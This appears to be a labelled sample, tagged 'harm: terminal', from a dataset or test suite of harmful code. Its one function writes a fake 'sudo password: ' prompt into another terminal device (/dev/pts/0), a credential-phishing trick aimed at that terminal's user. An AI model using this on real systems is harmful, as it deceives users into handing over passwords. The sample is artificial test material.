# harm: terminal
import os


def attack() -> int:
    terminal = os.open("/dev/pts/0", os.O_WRONLY | os.O_NOCTTY)
    return os.write(terminal, b"sudo password: ")
